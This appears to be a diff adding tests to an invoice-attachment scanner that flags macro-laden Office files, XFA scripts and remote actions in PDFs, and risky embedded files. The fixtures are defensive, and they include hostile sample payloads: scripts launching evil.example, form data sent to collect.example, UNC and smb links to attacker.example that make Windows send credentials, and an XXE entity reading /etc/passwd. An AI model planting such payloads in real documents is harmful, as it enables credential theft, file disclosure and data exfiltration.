@@ -9,6 +9,9 @@ import {
   makeVbaProject,
   makeWordPackage,
   makeZip,
+  makePng,
+  makeJpeg,
+  makeXlsx,
   flate,
   objectStream,
   type PdfObjectBody,
@@ -105,6 +108,20 @@ describe("OFFICE_MACRO", () => {
     expect(received.message.outcome).toBe("partially_imported");
   });
 
+  it("fires on a macro-enabled package whose parts are in an order that makes it sniff as a plain ZIP, not unpacking it", async () => {
+    // The content types part last, after the VBA project: file-type then says ZIP.
+    const scrambled = makeZip({
+      "word/vbaProject.bin": makeVbaProject(),
+      "word/document.xml": encoder.encode('<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'),
+      "[Content_Types].xml": encoder.encode('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
+    });
+    const odf = makeZip({ "Basic/Standard/Module1.xml": encoder.encode("<script:module>Sub Main\nEnd Sub</script:module>"), "content.xml": encoder.encode("<office:document-content/>"), mimetype: encoder.encode("application/vnd.oasis.opendocument.text"), "META-INF/manifest.xml": encoder.encode("<manifest:manifest/>") });
+    const received = await receive(pdf("invoice.pdf", makePdf()), file("offer.docm", scrambled), file("offer.odt", odf));
+    expect(expectFlagged(received, "offer.docm", "OFFICE_MACRO").reason).toMatch(/VBA/);
+    expectFlagged(received, "offer.odt", "OFFICE_MACRO");
+    expect(received.message.files.map((f: any) => f.name)).toEqual(["invoice.pdf", "offer.docm", "offer.odt"]);
+  });
+
   it("fires on a VBA project taken out of a ZIP", async () => {
     const received = await receive(attachment("docs.zip", "application/zip", makeZip({ "vbaProject.bin": makeVbaProject() })));
     expectFlagged(received, "vbaProject.bin", "OFFICE_MACRO");
@@ -162,6 +179,69 @@ describe("PDF_LAUNCH", () => {
   });
 });
 
+describe("PDF_XFA_SCRIPT", () => {
+  const template = (inside: string) =>
+    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="invoice"><field name="total"><value><decimal/></value>${inside}</field></subform></template></xdp:xdp>`;
+  const javascript = '<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://evil.example/")</script></event>';
+  const withXfa = (xfa: string, extraObjects: PdfObjectBody[]) => makePdf(undefined, { extraCatalog: `/AcroForm << /Fields [] /XFA ${xfa} >>`, extraObjects });
+
+  it.each([
+    ["one plain stream", withXfa("6 0 R", [{ dict: "<< >>", stream: encoder.encode(template(javascript)) }])],
+    ["a Flate-compressed template packet among name/stream pairs", withXfa("[(preamble) 6 0 R (template) 7 0 R (postamble) 8 0 R]", ["<< /Kind /Preamble >>", { dict: "<< /Filter /FlateDecode >>", stream: flate(template(javascript)) }, "<< >>"])],
+    ["a FormCalc script with a namespace prefix", withXfa("6 0 R", [{ dict: "<< >>", stream: encoder.encode(template('<event activity="click"><x:SCRIPT>xfa.host.gotoURL("https://evil.example/")</x:SCRIPT></event>')) }])],
+  ])("fires on an XFA form with a script in %s", async (_what, bytes) => {
+    const received = await receive(pdf("invoice.pdf", bytes));
+    expect(expectFlagged(received, "invoice.pdf", "PDF_XFA_SCRIPT").reason).toMatch(/XFA form with scripts/);
+  });
+
+  it("makes an XFA packet it cannot decode unreadable: it could hide a script", async () => {
+    const received = await receive(pdf("invoice.pdf", withXfa("6 0 R", [{ dict: "<< /Filter /LZWDecode >>", stream: encoder.encode(template(javascript)) }])));
+    expect(expectFlagged(received, "invoice.pdf", "PDF_UNREADABLE_OBJECTS").reason).toMatch(/its XFA form: a PDF stream is encoded with LZWDecode/);
+  });
+
+  it("does not fire on an XFA form without scripts, nor on the word script in its data", async () => {
+    const datasets = '<xfa:datasets xmlns:xfa="http://www.xfa.org/schema/xfa-data/1.0/"><xfa:data><note>The &lt;script&gt; in our manuscripts</note></xfa:data></xfa:datasets>';
+    const received = await receive(pdf("invoice.pdf", withXfa("[(template) 6 0 R (datasets) 7 0 R]", [{ dict: "<< >>", stream: encoder.encode(template("")) }, { dict: "<< /Filter /FlateDecode >>", stream: flate(datasets) }])));
+    expectPassed(received, "invoice.pdf");
+  });
+});
+
+describe("PDF_REMOTE_ACTION", () => {
+  const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`;
+  it.each([
+    ["a /GoToR link", link("<< /S /GoToR /F (\\\\\\\\fileserver\\\\invoices\\\\terms.pdf) /D [0 /Fit] >>"), /opens another file/],
+    ["a /GoToE link", link("<< /S /GoToE /T << /R /C /N (terms) >> >>"), /opens a PDF embedded/],
+    ["an /ImportData action", link("<< /S /ImportData /F (data.fdf) >>"), /imports form data from another file \("data.fdf"\)/],
+    ["a /SubmitForm action", link("<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/post) >> >>"), /sends the form's data to an address \("https:\/\/collect.example\/post"\)/],
+    ["a javascript: link", link("<< /S /URI /URI (  JavaScript:app.alert\\(1\\)) >>"), /runs a script/],
+    ["a file: link", link("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), /file on the reader's computer/],
+    ["a UNC path", link("<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\x.png) >>"), /network share \("\\\\attacker.example\\share\\x.png"\), which makes Windows send/],
+    ["an smb: address", link("<< /S /URI /URI (smb://attacker.example/share) >>"), /network share/],
+    ["a web address a page opens by itself (/AA)", "<< /Type /Note /AA << /O << /S /URI /URI (https://tracker.example/open) >> >> >>", /opened by itself, without a click/],
+  ])("fires on %s", async (_what, object, why) => {
+    const received = await receive(pdf("invoice.pdf", makePdf(undefined, { extraObjects: [object] })));
+    expect(expectFlagged(received, "invoice.pdf", "PDF_REMOTE_ACTION").reason).toMatch(why);
+  });
+
+  it("does not fire on https:, http: and mailto: links, nor on go-to actions within the document", async () => {
+    const received = await receive(
+      pdf(
+        "invoice.pdf",
+        makePdf(undefined, {
+          extraCatalog: "/OpenAction [3 0 R /Fit]",
+          extraObjects: [
+            link("<< /S /URI /URI (https://pay.supplier.example/invoice/42?amount=121.00) >>"),
+            link("<< /S /URI /URI (http://supplier.example) >>"),
+            link("<< /S /URI /URI (mailto:billing@supplier.example) >>"),
+            "<< /Type /Note /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
+          ],
+        }),
+      ),
+    );
+    expectPassed(received, "invoice.pdf");
+  });
+});
+
 describe("PDF_EMBEDDED_FILE", () => {
   const withJavaScript = makePdf(undefined, { extraCatalog: "/OpenAction 6 0 R", extraObjects: ["<< /S /JavaScript /JS (app.alert(1)) >>"] });
   const doctype = encoder.encode('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>');
@@ -185,6 +265,45 @@ describe("PDF_EMBEDDED_FILE", () => {
     const item = expectFlagged(received, "invoice.pdf", "PDF_EMBEDDED_FILE");
     expect(item.reason).toMatch(why);
     expect(item.reason).toContain(`"${name}"`);
+  });
+
+  it.each([
+    ["a damaged PNG", "scan.png", async () => new Uint8Array([...(await makePng(400, 400)).subarray(0, 16)]), /a PNG file that is damaged/],
+    ["an XLSX with a VBA project", "figures.xlsx", async () => makeXlsx({ "xl/vbaProject.bin": makeVbaProject() }), /OFFICE_MACRO check refuses/],
+    ["a CSV under a name with a control character", "hours\u0007.csv", async () => encoder.encode("date;hours\n2026-03-01;8\n"), /NAME_CONTROL_CHARACTERS check refuses/],
+  ])("fires on a Factur-X PDF embedding %s as a supporting document", async (_what, name, make, why) => {
+    const received = await receive(pdf("invoice.pdf", attaching({ name: "factur-x.xml", data: cii("INV-BG24-BAD") }, { name, data: await make() })));
+    const item = expectFlagged(received, "invoice.pdf", "PDF_EMBEDDED_FILE");
+    expect(item.reason).toMatch(why);
+    expect(item.reason).toContain(`"${name.replace("\u0007", "[U+0007]")}"`);
+  });
+
+  it("does not fire on supporting documents of the types EN 16931 allows (BG-24) that pass every rule", async () => {
+    const received = await receive(
+      pdf(
+        "invoice.pdf",
+        attaching(
+          { name: "factur-x.xml", data: cii("INV-BG24") },
+          { name: "delivery.png", data: await makePng(400, 300) },
+          { name: "signature.jpg", data: makeJpeg(400, 300) },
+          { name: "hours.csv", data: encoder.encode("date;hours\n2026-03-01;8\n2026-03-02;7.5\n") },
+          { name: "figures.xlsx", data: makeXlsx() },
+          { name: "figures.ods", data: makeOdt({}, "spreadsheet") },
+        ),
+      ),
+    );
+    expectPassed(received, "invoice.pdf");
+    expect(received.invoices[0]).toMatchObject({ format: "facturx" });
+  });
+
+  it("does not fire on a Factur-X PDF embedding an uncompressed PDF whose object numbers repeat the outer file's (indirect /Length)", async () => {
+    const inner = makePdf(undefined, { extraObjects: [{ dict: "<< /Type /XObject /Subtype /Image >>", stream: crypto.getRandomValues(new Uint8Array(64)) }] });
+    for (const xref of ["table", "streams"] as const) {
+      const bytes = buildPdf({ xref, lengths: "indirect", attachments: [{ name: "factur-x.xml", data: cii(`INV-NESTED-${xref}`), compress: false }, { name: "appendix.pdf", data: inner, compress: false }] });
+      const received = await receive(pdf("invoice.pdf", bytes));
+      expectPassed(received, "invoice.pdf");
+      expect(received.invoices[0]).toMatchObject({ format: "facturx" });
+    }
   });
 
   it("does not fire on Factur-X, ZUGFeRD and XRechnung invoices, nor on a supporting PDF and XML beside them", async () => {
